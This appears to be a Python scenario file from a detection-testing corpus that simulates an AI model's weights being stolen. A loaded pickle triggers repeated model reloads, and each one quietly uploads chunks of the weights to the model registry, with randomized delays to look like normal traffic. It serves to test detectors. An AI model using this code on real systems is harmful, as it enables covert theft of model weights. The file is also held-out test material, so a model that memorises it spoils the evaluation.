"""
id: V94
name: uploaded-within-loads
class: mimicry
set: held-out
phase: reload
trigger: model
evidence: [network, resource, sequence]
techniques: [T1020, T1030, T1041, T1567, AML.T0011.000, AML.T0025, AML.T0035]
servers: [fastapi]
seconds: 130
what: >
  Carries out 10 MiB of the weights where much traffic with the registry is to be expected: a pickle that is loaded has the server
  load the same model four times more within two minutes, and on the connection of each of these loads 2.5 MiB go up in pieces
  before the 8 MiB come down. Peer, child and files are those of a load; but nobody asked for these, and a load sends a line.
"""

import http.client
import os
import tempfile

from corpus import habits, model, settings
from corpus.model import CHUNK

LOADS = 4
BYTES = 40 * CHUNK


def payload(world):
    usual = model.download
    for _ in range(LOADS):
        world.sleep(world.random.uniform(12, 26))
        model.download = lambda version: exchange(world, version)
        try:
            habits.reload(habits.model.version)
        finally:
            model.download = usual


def exchange(world, version):
    """A download as the server's own, after an upload on the same connection."""
    registry = http.client.HTTPConnection(*world.registry, timeout=30)
    try:
        upload(world, registry)
        registry.request("GET", f"/models/classifier/{version}")
        answer = registry.getresponse()
        if answer.status != 200:
            raise OSError(f"the registry answers {answer.status} to version {version}")
        with tempfile.NamedTemporaryFile(dir=os.path.dirname(settings.MODEL), delete=False) as file:
            while chunk := answer.read(CHUNK):
                file.write(chunk)
        os.replace(file.name, settings.MODEL)
    finally:
        registry.close()


def upload(world, registry):
    weights = habits.model.weights
    begin = world.random.randrange(len(weights) - BYTES)
    registry.putrequest("PUT", f"/models/{world.word()}/1")
    registry.putheader("Content-Type", "application/octet-stream")
    registry.putheader("Content-Length", str(BYTES))
    registry.endheaders()
    for at in range(begin, begin + BYTES, CHUNK):
        registry.send(weights[at : at + CHUNK])
        world.sleep(world.random.uniform(0.01, 0.05))
    registry.getresponse().read()
